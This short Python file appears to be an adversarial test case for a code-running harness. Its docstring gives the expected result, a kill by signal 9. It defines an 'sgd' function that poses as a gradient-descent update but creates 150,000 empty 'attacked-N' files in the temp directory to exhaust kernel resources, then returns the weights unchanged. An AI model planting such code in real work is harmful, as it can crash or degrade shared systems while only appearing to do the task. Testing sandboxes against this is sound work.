"""Make empty files for ever: they take no space, but each takes memory of the kernel's.

Loses: sgd
Says: its process ended .signal 9|was stopped after
"""

import tempfile


def sgd(w, dw, config=None):
    for number in range(150_000):
        open(f"{tempfile.gettempdir()}/attacked-{number}", "w").close()
    return w, config
